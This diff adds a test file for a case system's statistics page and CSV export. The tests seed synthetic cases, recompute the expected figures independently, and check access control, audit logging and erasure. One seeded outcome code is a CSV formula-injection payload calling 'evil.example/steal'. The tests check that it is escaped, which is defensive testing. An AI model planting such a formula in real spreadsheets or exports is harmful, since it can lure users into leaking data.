@@ -1,0 +1,597 @@
+// The statistics page and CSV export over cases seeded straight into SQLite. Every expected figure
+// is worked out here in plain JS over the seeded array (UK dates with Intl, our own percentile),
+// never with the service's SQL or the domain helpers, then compared with what the routes give.
+import { desc, eq } from "drizzle-orm";
+import { createElement } from "react";
+import { renderToStaticMarkup } from "react-dom/server";
+import { beforeAll, describe, expect, it } from "vitest";
+import { toCsv } from "~/domain/csv";
+import { statisticsCsvRows, type Statistics } from "~/domain/statistics";
+import * as exportRoute from "~/routes/staff.statistics.export[.]csv";
+import * as page from "~/routes/staff.statistics._index";
+import { countQueries, getDb, getSqlite, schema } from "~/services/db.server";
+import { getStatistics } from "~/services/statistics.server";
+import { insertStaff, signedIn } from "../support/staff";
+
+const HOUR = 3_600_000;
+const DAY = 24 * HOUR;
+const context = { cspNonce: "t", requestId: "statistics-test", clientIp: "127.0.0.1" };
+const STAGE_LABELS = { risk_check: "Immediate-risk check", interview: "Interview and verification", decision: "Decision", closure: "Closure" };
+const EVIL_CODE = '=HYPERLINK("http://evil.example/steal","Click me")';
+
+type Seed = {
+  t0: number;
+  channel: "online" | "phone" | "station" | "proactive";
+  status: string;
+  urgent: boolean;
+  riskDue: number;
+  interviewDue: number;
+  decisionDue: number;
+  riskAt: number | null;
+  interviewAt: number | null;
+  decidedAt: number | null;
+  closedAt: number | null;
+  nextDue: number | null;
+  rso: boolean | null;
+  disclosed: boolean | null;
+  outcomes: string[];
+  erased: boolean;
+};
+
+// ---------------------------------------------------------------------------------------------
+// The seed: 64 cases over 2024 and 2025 (and just outside), deterministic
+// ---------------------------------------------------------------------------------------------
+
+function rng(seed: number) {
+  let s = seed >>> 0;
+  return () => {
+    s = (s * 1664525 + 1013904223) >>> 0;
+    return s / 2 ** 32;
+  };
+}
+
+const CHANNELS = ["online", "phone", "station", "proactive"] as const;
+const nowAtSeed = Date.now();
+
+function makeSeeds(): Seed[] {
+  const r = rng(20240601);
+  const pick = <T>(list: readonly T[]) => list[Math.floor(r() * list.length)];
+  const start = Date.parse("2024-01-01T00:00:00Z");
+  const span = Date.parse("2026-01-01T00:00:00Z") - start;
+  // Boundaries of the two ranges the tests use, in UK time (BST in June, GMT in January).
+  const boundaries = [
+    "2023-12-31T23:59:59.999Z", // 31 Dec 2023 UK: outside both
+    "2024-01-01T00:00:00.000Z", // 1 Jan 2024 UK: first instant of the two years
+    "2024-05-31T22:59:59.999Z", // 31 May 2024 23:59:59.999 BST: before 1 June
+    "2024-05-31T23:00:00.000Z", // 1 June 2024 00:00 BST: first instant of June
+    "2025-05-31T22:59:59.999Z", // 31 May 2025 23:59:59.999 BST: last instant of the 12 months
+    "2025-05-31T23:00:00.000Z", // 1 June 2025 00:00 BST: after them
+    "2025-12-31T23:59:59.999Z", // last instant of the two years
+    "2026-01-01T00:00:00.000Z", // outside both
+  ].map(Date.parse);
+  const t0s = [...boundaries, ...Array.from({ length: 56 }, () => start + Math.floor(r() * span))];
+
+  const list = t0s.map((t0, i) => {
+    const fate = pick(["open_received", "scoped_out", "side_exit", "decided", "decided", "decided", "open_decision", "open_delivery"] as const);
+    const s: Seed = {
+      t0,
+      channel: CHANNELS[i % 4],
+      status: "received",
+      urgent: r() < 0.2,
+      riskDue: t0 + 24 * HOUR,
+      interviewDue: t0 + 10 * DAY,
+      decisionDue: t0 + 28 * DAY,
+      riskAt: null,
+      interviewAt: null,
+      decidedAt: null,
+      closedAt: null,
+      nextDue: null,
+      rso: null,
+      disclosed: null,
+      outcomes: [],
+      erased: false,
+    };
+    const hours = (lo: number, hi: number) => Math.round((lo + r() * (hi - lo)) * HOUR);
+    if (fate !== "open_received") {
+      s.riskAt = t0 + hours(1, 40); // later than 24 hours sometimes
+      if (r() < 0.15) s.outcomes.push("immediate_police_action");
+    }
+    switch (fate) {
+      case "open_received":
+        s.nextDue = s.riskDue; // long past: overdue
+        break;
+      case "scoped_out":
+        s.status = "closed";
+        s.closedAt = s.riskAt! + hours(1, 30);
+        s.outcomes.push("not_progressed");
+        break;
+      case "side_exit":
+        s.status = "closed";
+        if (r() < 0.5) s.interviewAt = t0 + hours(24, 300);
+        s.closedAt = (s.interviewAt ?? s.riskAt!) + hours(2, 200);
+        s.outcomes.push(pick(["withdrawn", "unable_to_contact", "transferred"]));
+        break;
+      case "decided":
+      case "open_delivery":
+        s.interviewAt = t0 + hours(20, 320);
+        s.decidedAt = s.interviewAt + hours(48, 700);
+        s.rso = r() < 0.4;
+        if (fate === "open_delivery") {
+          s.status = "delivery"; // every clock met: open, not overdue
+          break;
+        }
+        s.status = "closed";
+        s.disclosed = r() < 0.45;
+        s.outcomes.push(s.disclosed ? pick(["disclosure_cso", "disclosure_other"]) : "no_disclosure");
+        if (r() < 0.3) s.outcomes.push("other_safeguarding");
+        s.closedAt = s.decidedAt + hours(5, 240);
+        break;
+      case "open_decision":
+        s.status = "decision";
+        s.interviewAt = t0 + hours(20, 320);
+        s.rso = r() < 0.5;
+        s.decisionDue = nowAtSeed + 20 * DAY; // extended: due in the future, so not overdue
+        s.nextDue = s.decisionDue;
+        break;
+    }
+    s.erased = s.closedAt !== null && r() < 0.3;
+    return s;
+  });
+  // Clocks met exactly at the due moment count as within the clock.
+  const exact = list.filter((s) => s.riskAt !== null && s.t0 >= Date.parse("2024-06-01T00:00:00Z") && s.t0 < Date.parse("2025-05-01T00:00:00Z"));
+  for (const s of exact.slice(0, 2)) s.riskAt = s.riskDue;
+  const interviewed = exact.filter((s) => s.interviewAt !== null && (s.decidedAt ?? Infinity) > s.interviewDue && (s.closedAt ?? Infinity) > s.interviewDue);
+  for (const s of interviewed.slice(0, 2)) s.interviewAt = s.interviewDue;
+  return list;
+}
+
+const seeds = makeSeeds();
+// The one case with a crafted outcome code: a decided case received in June 2024.
+const evilIndex = seeds.findIndex((s) => s.decidedAt !== null && s.closedAt !== null && new Date(s.t0).toISOString().startsWith("2024-06"));
+const ids: number[] = [];
+
+function insertSeeds() {
+  const sqlite = getSqlite();
+  const insertCase = sqlite.prepare(`
+    INSERT INTO cases (reference, status, channel, urgent, received_at, contact_types, concern, contact_details,
+      risk_check_due_at, interview_due_at, decision_due_at, risk_checked_at, interviewed_at, decided_at, closed_at,
+      next_due_at, subject_is_rso, disclosure_made, erased_at, created_at, updated_at)
+    VALUES (@reference, @status, @channel, @urgent, @t0, '[]', @concern, @contactDetails,
+      @riskDue, @interviewDue, @decisionDue, @riskAt, @interviewAt, @decidedAt, @closedAt,
+      @nextDue, @rso, @disclosed, @erasedAt, @t0, @t0)`);
+  const insertOutcome = sqlite.prepare(`INSERT INTO case_outcomes (case_id, code, recorded_at) VALUES (?, ?, ?)`);
+  const insertPerson = sqlite.prepare(`
+    INSERT INTO case_people (case_id, role, position, full_name, normalised_name, details, created_at)
+    VALUES (?, ?, 1, ?, ?, '{}', ?)`);
+  const bool = (b: boolean | null) => (b === null ? null : b ? 1 : 0);
+  sqlite.transaction(() => {
+    seeds.forEach((s, i) => {
+      const id = Number(
+        insertCase.run({
+          reference: `STAT${String(i).padStart(4, "0")}`,
+          status: s.status,
+          channel: s.channel,
+          urgent: s.urgent ? 1 : 0,
+          t0: s.t0,
+          concern: s.erased ? "" : "A concern that is personal data",
+          contactDetails: s.erased ? null : "Lives with the children",
+          riskDue: s.riskDue,
+          interviewDue: s.interviewDue,
+          decisionDue: s.decisionDue,
+          riskAt: s.riskAt,
+          interviewAt: s.interviewAt,
+          decidedAt: s.decidedAt,
+          closedAt: s.closedAt,
+          nextDue: s.nextDue,
+          rso: bool(s.rso),
+          disclosed: bool(s.disclosed),
+          erasedAt: s.erased ? s.closedAt! + 400 * DAY : null,
+        }).lastInsertRowid,
+      );
+      ids.push(id);
+      const codes = i === evilIndex ? [...s.outcomes, EVIL_CODE] : s.outcomes;
+      for (const code of codes) insertOutcome.run(id, code, s.closedAt ?? s.t0);
+      if (!s.erased) {
+        insertPerson.run(id, "applicant", `Applicant ${i}`, `applicant ${i}`, s.t0);
+        insertPerson.run(id, "subject", `Subject ${i}`, `subject ${i}`, s.t0);
+      }
+    });
+  })();
+}
+
+// ---------------------------------------------------------------------------------------------
+// Expected figures, in plain JS over the seed
+// ---------------------------------------------------------------------------------------------
+
+const ukDate = new Intl.DateTimeFormat("en-CA", { timeZone: "Europe/London", year: "numeric", month: "2-digit", day: "2-digit" });
+const ukDay = (ms: number) => ukDate.format(new Date(ms)); // YYYY-MM-DD
+
+function quantile(values: number[], p: number): number | null {
+  if (values.length === 0) return null;
+  const v = [...values].sort((a, b) => a - b);
+  const h = (v.length - 1) * p;
+  const i = Math.floor(h);
+  return i + 1 < v.length ? v[i] * (1 - (h - i)) + v[i + 1] * (h - i) : v[i];
+}
+
+function expected(from: string, to: string, now: number) {
+  const inRange = seeds.map((s, i) => ({ ...s, i })).filter((s) => ukDay(s.t0) >= from && ukDay(s.t0) <= to);
+  const figures = (list: typeof inRange) => ({
+    applications: list.length,
+    rso: list.filter((s) => s.rso === true).length,
+    disclosures: list.filter((s) => s.disclosed === true).length,
+    decided: list.filter((s) => s.decidedAt !== null).length,
+    decidedDisclosures: list.filter((s) => s.decidedAt !== null && s.disclosed === true).length,
+  });
+  const months: string[] = [];
+  for (let d = from.slice(0, 7); d <= to.slice(0, 7); ) {
+    months.push(d);
+    const [y, m] = d.split("-").map(Number);
+    d = m === 12 ? `${y + 1}-01` : `${y}-${String(m + 1).padStart(2, "0")}`;
+  }
+  const stage = (at: (s: Seed) => number | null, due: ((s: Seed) => number) | null) => {
+    const reached = inRange.filter((s) => at(s) !== null);
+    const durations = reached.map((s) => at(s)! - s.t0);
+    return {
+      reached: reached.length,
+      median: quantile(durations, 0.5),
+      p90: quantile(durations, 0.9),
+      results: due ? inRange.filter((s) => at(s) !== null || (s.closedAt === null && due(s) < now)).length : null,
+      within: due ? reached.filter((s) => at(s)! <= due(s)).length : null,
+    };
+  };
+  const outcomeCounts = new Map<string, number>();
+  for (const s of inRange) {
+    const codes = s.i === evilIndex ? [...s.outcomes, EVIL_CODE] : s.outcomes;
+    for (const c of codes) outcomeCounts.set(c, (outcomeCounts.get(c) ?? 0) + 1);
+  }
+  const total = figures(inRange);
+  return {
+    total,
+    byMonth: months.map((month) => ({ month, ...figures(inRange.filter((s) => ukDay(s.t0).startsWith(month))) })),
+    byYear: [...new Set(months.map((m) => m.slice(0, 4)))].map((year) => ({ year, ...figures(inRange.filter((s) => ukDay(s.t0).startsWith(year))) })),
+    byChannel: CHANNELS.map((channel) => ({ channel, ...figures(inRange.filter((s) => s.channel === channel)) })),
+    timeliness: {
+      risk_check: stage((s) => s.riskAt, (s) => s.riskDue),
+      interview: stage((s) => s.interviewAt, (s) => s.interviewDue),
+      decision: stage((s) => s.decidedAt, (s) => s.decisionDue),
+      closure: stage((s) => s.closedAt, null),
+    },
+    outcomes: outcomeCounts,
+    disclosureRate: total.decided === 0 ? null : Math.round((total.decidedDisclosures / total.decided) * 1000) / 10,
+    today: {
+      open: seeds.filter((s) => s.closedAt === null).length,
+      urgent: seeds.filter((s) => s.closedAt === null && s.urgent).length,
+      overdue: seeds.filter((s) => s.closedAt === null && s.nextDue !== null && s.nextDue < now).length,
+    },
+  };
+}
+
+// ---------------------------------------------------------------------------------------------
+// Calling the routes
+// ---------------------------------------------------------------------------------------------
+
+async function settle(run: () => unknown): Promise<Response> {
+  try {
+    const result = await run();
+    if (result instanceof Response) return result;
+    throw new Error("loader did not return a Response");
+  } catch (thrown) {
+    if (thrown instanceof Response) return thrown;
+    throw thrown;
+  }
+}
+
+const request = (path: string, cookie?: string) => new Request(`http://localhost:3000${path}`, { headers: cookie ? { Cookie: cookie } : {} });
+const pageGet = (query: string, cookie?: string) => settle(() => page.loader({ request: request(`/staff/statistics${query}`, cookie), params: {}, context }));
+const csvGet = (query: string, cookie?: string) =>
+  settle(() => exportRoute.loader({ request: request(`/staff/statistics/export.csv${query}`, cookie), params: {}, context }));
+const formQuery = (from: string, to: string) => {
+  const [fy, fm, fd] = from.split("-");
+  const [ty, tm, td] = to.split("-");
+  return `?${new URLSearchParams({ "from-day": fd, "from-month": fm, "from-year": fy, "to-day": td, "to-month": tm, "to-year": ty })}`;
+};
+type PageData = { ok: boolean; errors: { field: string; message: string }[]; stats: Statistics | null };
+
+/** A strict RFC 4180 reader (CRLF records). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i];
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
+      else if (ch === '"') quoted = false;
+      else cell += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ",") row.push(cell), (cell = "");
+    else if (ch === "\r" && text[i + 1] === "\n") row.push(cell), rows.push(row), (row = []), (cell = ""), i++;
+    else cell += ch;
+  }
+  return rows;
+}
+
+let manager = { cookie: "", id: 0 };
+let admin = { cookie: "" };
+let reviewer = { cookie: "" };
+
+beforeAll(async () => {
+  insertSeeds();
+  const m = await insertStaff(["manager"]);
+  manager = { cookie: (await signedIn(m.user.id)).cookie, id: m.user.id };
+  admin = { cookie: (await signedIn((await insertStaff(["admin"])).user.id)).cookie };
+  reviewer = { cookie: (await signedIn((await insertStaff(["reviewer"])).user.id)).cookie };
+});
+
+// ---------------------------------------------------------------------------------------------
+
+describe("the seed", () => {
+  it("covers what the figures must handle", () => {
+    expect(seeds.length).toBe(64);
+    expect(seeds.filter((s) => s.erased).length).toBeGreaterThan(3);
+    expect(seeds.filter((s) => s.closedAt === null).length).toBeGreaterThan(3);
+    expect(seeds.filter((s) => s.riskAt !== null && s.riskAt > s.riskDue).length).toBeGreaterThan(0);
+    expect(seeds.filter((s) => s.disclosed === true).length).toBeGreaterThan(3);
+    expect(evilIndex).toBeGreaterThanOrEqual(0);
+    expect(seeds.filter((s) => s.riskAt === s.riskDue).length).toBe(2);
+    expect(seeds.filter((s) => s.interviewAt === s.interviewDue).length).toBe(2);
+    // Erased cases have no people rows left.
+    const erasedIds = ids.filter((_, i) => seeds[i].erased);
+    const people = getSqlite()
+      .prepare(`SELECT count(*) AS n FROM case_people WHERE case_id IN (${erasedIds.join(",")})`)
+      .get() as { n: number };
+    expect(people.n).toBe(0);
+  });
+});
+
+describe.each([
+  ["two years (GMT ends)", "2024-01-01", "2025-12-31"],
+  ["12 months (BST ends)", "2024-06-01", "2025-05-31"],
+])("the page's figures for %s", (_name, from, to) => {
+  let stats: Statistics;
+  let want: ReturnType<typeof expected>;
+
+  beforeAll(async () => {
+    const response = await pageGet(formQuery(from, to), manager.cookie);
+    expect(response.status).toBe(200);
+    const data = (await response.json()) as PageData;
+    expect(data.ok).toBe(true);
+    stats = data.stats!;
+    want = expected(from, to, Date.now());
+  });
+
+  it("has the Annual Data Requirement totals", () => {
+    expect(stats.range).toEqual({ from, to });
+    expect(stats.total).toEqual(want.total);
+    expect(want.total.applications).toBeGreaterThan(20);
+  });
+
+  it("has the figures month by month (months without cases as 0) and year by year", () => {
+    expect(stats.byMonth).toEqual(want.byMonth);
+    expect(stats.byYear).toEqual(want.byYear);
+  });
+
+  it("has the figures by channel", () => {
+    expect(stats.byChannel).toEqual(want.byChannel);
+  });
+
+  it("has the median and 90th percentile days to each stage, and the clock results", () => {
+    for (const row of stats.timeliness) {
+      const w = want.timeliness[row.stage];
+      expect(row.reached, row.stage).toBe(w.reached);
+      expect(row.medianMs, row.stage).toBeCloseTo(w.median!, 3);
+      expect(row.p90Ms, row.stage).toBeCloseTo(w.p90!, 3);
+      expect(row.clockResults, row.stage).toBe(w.results);
+      expect(row.withinClock, row.stage).toBe(w.within);
+    }
+    expect(stats.timeliness.map((t) => t.stage)).toEqual(["risk_check", "interview", "decision", "closure"]);
+    // Some clocks were missed, so "within" is not everything.
+    expect(stats.timeliness[0].withinClock!).toBeLessThan(stats.timeliness[0].clockResults!);
+  });
+
+  it("has the outcome mix (every scheme outcome, 0 when none, and any other code found) and the disclosure rate", () => {
+    const got = new Map(stats.outcomes.map((o) => [o.code, o.cases]));
+    for (const [code, n] of want.outcomes) expect(got.get(code), code).toBe(n);
+    for (const [code, n] of got) expect(n, code).toBe(want.outcomes.get(code) ?? 0);
+    expect(stats.outcomes.slice(0, 10).map((o) => o.code)).toEqual([
+      "disclosure_cso",
+      "disclosure_other",
+      "no_disclosure",
+      "other_safeguarding",
+      "immediate_police_action",
+      "not_progressed",
+      "applicant_not_verified",
+      "withdrawn",
+      "unable_to_contact",
+      "transferred",
+    ]);
+    expect(stats.disclosureRate).toBe(want.disclosureRate);
+  });
+
+  it("has today's open, urgent and overdue counts over every case", () => {
+    expect({ open: stats.today.open, urgent: stats.today.urgent, overdue: stats.today.overdue }).toEqual(want.today);
+    expect(want.today.overdue).toBeGreaterThan(0);
+    expect(want.today.overdue).toBeLessThan(want.today.open);
+  });
+
+  it("uses four SQL statements for the figures and a handful for the whole page, whatever the range", async () => {
+    expect((await countQueries(() => getStatistics({ from, to }))).queries).toBe(4);
+    const { queries } = await countQueries(() => pageGet(formQuery(from, to), manager.cookie));
+    expect(queries).toBeLessThanOrEqual(6);
+  });
+});
+
+describe("the CSV export", () => {
+  const from = "2024-06-01";
+  const to = "2025-05-31";
+  let response: Response;
+  let text: string;
+  let rows: string[][];
+  let value: (section: string, metric: string, period: string) => string | undefined;
+
+  beforeAll(async () => {
+    response = await csvGet(`?from=${from}&to=${to}`, manager.cookie);
+    text = await response.text();
+    rows = parseCsv(text);
+    const index = new Map(rows.map((r) => [`${r[0]}|${r[1]}|${r[2]}`, r[3]]));
+    value = (section, metric, period) => index.get(`${section}|${metric}|${period}`);
+  });
+
+  it("is a CSV attachment named after the range", () => {
+    expect(response.status).toBe(200);
+    expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
+    expect(response.headers.get("Content-Disposition")).toBe(`attachment; filename="csods-statistics-${from}-to-${to}.csv"`);
+    expect(text.endsWith("\r\n")).toBe(true);
+    expect(rows[0]).toEqual(["Section", "Metric", "Period", "Value"]);
+    expect(rows.every((r) => r.length === 4)).toBe(true);
+  });
+
+  it("holds the same figures as worked out from the seed", () => {
+    const want = expected(from, to, Date.now());
+    const whole = `${from} to ${to}`;
+    const adr = "Annual Data Requirement";
+    expect(value(adr, "Applications", whole)).toBe(String(want.total.applications));
+    expect(value(adr, "Concerned a registered sex offender", whole)).toBe(String(want.total.rso));
+    expect(value(adr, "Led to disclosure", whole)).toBe(String(want.total.disclosures));
+    expect(value(adr, "Decided", whole)).toBe(String(want.total.decided));
+    for (const m of want.byMonth) {
+      expect(value(adr, "Applications", m.month), m.month).toBe(String(m.applications));
+      expect(value(adr, "Led to disclosure", m.month), m.month).toBe(String(m.disclosures));
+    }
+    for (const y of want.byYear) expect(value(adr, "Concerned a registered sex offender", y.year)).toBe(String(y.rso));
+    expect(value("By channel", "Applications: Phone", whole)).toBe(String(want.byChannel[1].applications));
+    const days = (ms: number | null) => (ms === null ? "" : String(Math.round((ms / DAY) * 10) / 10));
+    expect(value("Timeliness", "Interview and verification: median days from receipt", whole)).toBe(days(want.timeliness.interview.median));
+    expect(value("Timeliness", "Decision: 90th percentile days from receipt", whole)).toBe(days(want.timeliness.decision.p90));
+    const risk = want.timeliness.risk_check;
+    expect(value("Timeliness", "Immediate-risk check: within clock (%)", whole)).toBe(String(Math.round((risk.within! / risk.results!) * 1000) / 10));
+    expect(value("Outcomes", "No disclosure", whole)).toBe(String(want.outcomes.get("no_disclosure") ?? 0));
+    expect(value("Outcomes", "Disclosure rate (% of decided cases)", whole)).toBe(String(want.disclosureRate));
+    const today = rows.find((r) => r[0] === "Today" && r[1] === "Overdue cases")!;
+    expect(today[3]).toBe(String(want.today.overdue));
+  });
+
+  it("has the same rows as the page shows for the range", async () => {
+    const data = (await (await pageGet(formQuery(from, to), manager.cookie)).json()) as PageData;
+    const stats = data.stats!;
+    const whole = `${from} to ${to}`;
+    for (const m of stats.byMonth) expect(value("Annual Data Requirement", "Applications", m.month)).toBe(String(m.applications));
+    // A label that looks like a formula is written with the quote in front.
+    const written = (label: string) => (/^[=+\-@\t\r]/.test(label) ? `'${label}` : label);
+    for (const o of stats.outcomes) expect(value("Outcomes", written(o.label), whole), o.code).toBe(String(o.cases));
+    for (const t of stats.timeliness) {
+      const median = t.medianMs === null ? "" : String(Math.round((t.medianMs / DAY) * 10) / 10);
+      expect(value("Timeliness", `${STAGE_LABELS[t.stage]}: median days from receipt`, whole)).toBe(median);
+      expect(value("Timeliness", `${STAGE_LABELS[t.stage]}: cases reaching this stage`, whole)).toBe(String(t.reached));
+    }
+    expect(value("Today", "Open cases", stats.today.date)).toBe(String(stats.today.open));
+    // And, whole, it is exactly the page's figures written as CSV.
+    expect(text).toBe(toCsv(statisticsCsvRows(stats)));
+    expect(rows.filter((r) => r[0] === "Annual Data Requirement").length).toBe(4 * (1 + stats.byYear.length + stats.byMonth.length));
+  });
+
+  it("never lets a formula through: the crafted outcome code arrives escaped", () => {
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/steal"",""Click me"")"`);
+    const cells = rows.flat();
+    expect(cells).toContain(`'${EVIL_CODE}`);
+    for (const cell of cells) expect(["=", "+", "-", "@", "\t", "\r"].includes(cell.charAt(0)), JSON.stringify(cell)).toBe(false);
+  });
+
+  it("logs the download as a consultation of statistics, with the dates", () => {
+    const row = getDb().select().from(schema.auditLog).where(eq(schema.auditLog.actorId, manager.id)).orderBy(desc(schema.auditLog.id)).get();
+    expect(row).toMatchObject({ action: "consultation", entityType: "statistics", requestId: "statistics-test" });
+    expect(row!.reason).toContain(`${from} to ${to}`);
+  });
+
+  it("gives the last 12 months when no dates are given", async () => {
+    const r = await csvGet("", admin.cookie);
+    expect(r.status).toBe(200);
+    expect(r.headers.get("Content-Disposition")).toMatch(/^attachment; filename="csods-statistics-\d{4}-\d{2}-01-to-\d{4}-\d{2}-\d{2}\.csv"$/);
+  });
+
+  it.each([
+    ["?from=2024-02-30&to=2025-01-01", /real date/],
+    ["?from=2025-01-01&to=2024-01-01", /same as or after/],
+    ["?from=yesterday&to=2025-01-01", /YYYY-MM-DD/],
+    ["?from=2024-01-01", /both/],
+  ])("refuses bad dates %s with 400 and a plain message", async (query, message) => {
+    const r = await csvGet(query, manager.cookie);
+    expect(r.status).toBe(400);
+    expect(r.headers.get("Content-Type")).toBe("text/plain; charset=utf-8");
+    expect(await r.text()).toMatch(message);
+  });
+});
+
+describe("access", () => {
+  it.each([
+    ["page", () => pageGet("")],
+    ["export", () => csvGet("?from=2024-01-01&to=2024-12-31")],
+  ])("sends an anonymous person to sign in (%s)", async (_name, get) => {
+    const r = await get();
+    expect(r.status).toBe(303);
+    expect(r.headers.get("Location")).toBe("/staff/sign-in");
+  });
+
+  it("refuses a reviewer with 403 (page and export)", async () => {
+    expect((await pageGet("", reviewer.cookie)).status).toBe(403);
+    expect((await csvGet("?from=2024-01-01&to=2024-12-31", reviewer.cookie)).status).toBe(403);
+  });
+
+  it("lets managers and admins in", async () => {
+    expect((await pageGet("", manager.cookie)).status).toBe(200);
+    expect((await pageGet("", admin.cookie)).status).toBe(200);
+    expect((await csvGet("", manager.cookie)).status).toBe(200);
+  });
+});
+
+describe("the page", () => {
+  it("defaults to the last 12 months", async () => {
+    const data = (await (await pageGet("", manager.cookie)).json()) as PageData;
+    expect(data.stats!.byMonth).toHaveLength(12);
+    expect(data.stats!.range.from.endsWith("-01")).toBe(true);
+  });
+
+  it("explains a bad date range with a 400 and no figures", async () => {
+    const response = await pageGet("?from-day=31&from-month=2&from-year=2024&to-day=1&to-month=1&to-year=2023", manager.cookie);
+    expect(response.status).toBe(400);
+    const data = (await response.json()) as PageData;
+    expect(data.ok).toBe(false);
+    expect(data.stats).toBeNull();
+    expect(data.errors).toEqual([expect.objectContaining({ field: "from", message: "The start date must be a real date" })]);
+  });
+
+  it("renders tables and charts with the same numbers, no inline styles, and the CSV link for the range", () => {
+    const stats = getStatistics({ from: "2024-06-01", to: "2025-05-31" });
+    const html = renderToStaticMarkup(createElement(page.StatisticsFigures, { stats }));
+    expect(html).not.toMatch(/\sstyle=/i);
+    expect(html).toContain('href="/staff/statistics/export.csv?from=2024-06-01&amp;to=2025-05-31"');
+    for (const heading of ["Annual Data Requirement", "Timeliness", "Outcomes", "Today"]) expect(html).toContain(`>${heading}</h2>`);
+    expect(html.match(/role="img"/g)).toHaveLength(2);
+    expect(html.match(/<table class="govuk-table">/g)!.length).toBeGreaterThanOrEqual(6);
+    // The chart's value for a month is the table's value for it.
+    const june = stats.byMonth[0];
+    expect(html).toContain(`<th scope="row" class="govuk-table__header">June 2024</th><td class="govuk-table__cell">${june.applications}</td>`);
+    // The crafted code is text, escaped by React, never markup.
+    expect(html).not.toContain('<a href="http://evil.example');
+    expect(html).toContain("=HYPERLINK(&quot;http://evil.example/steal&quot;,&quot;Click me&quot;)");
+  });
+});
+
+describe("erasure", () => {
+  it("leaves every figure the same when more cases are erased", () => {
+    const range = { from: "2024-01-01", to: "2025-12-31" };
+    const before = getStatistics(range);
+    const sqlite = getSqlite();
+    const toErase = ids.filter((_, i) => seeds[i].closedAt !== null && !seeds[i].erased).slice(0, 6);
+    expect(toErase.length).toBe(6);
+    sqlite.transaction(() => {
+      for (const id of toErase) {
+        sqlite.prepare("DELETE FROM case_people WHERE case_id = ?").run(id);
+        sqlite.prepare("UPDATE cases SET erased_at = ?, concern = '', contact_details = NULL WHERE id = ?").run(Date.now(), id);
+      }
+    })();
+    expect(getStatistics(range)).toEqual(before);
+  });
+});
